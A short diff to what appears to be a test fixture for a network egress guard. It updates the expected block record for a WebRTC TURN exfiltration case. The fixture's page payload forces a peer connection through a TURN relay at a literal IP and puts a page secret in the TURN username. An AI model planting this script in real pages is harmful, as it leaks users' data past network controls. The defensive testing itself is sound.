@@ -10,7 +10,9 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["RFC 8656", "RFC 6062"],
     "arrives": [{"what": "tcp", "address": "93.184.216.66", "port": 80}],
-    "stopped": [{"reason": ["literal-address"], "entry": ["transparent"]}],
+    "stopped": [
+        {"reason": ["literal-address"], "entry": ["transparent"], "where": {"address": "93.184.216.66"}}
+    ],
     "page": "<h1>Call</h1><script>const peer = new RTCPeerConnection({iceTransportPolicy: "
     "'relay', iceServers: [{urls: 'turn:93.184.216.66:80?transport=tcp', username: "
     "'secret-of-the-page', credential: 'x'}]});peer.createDataChannel('x'); "
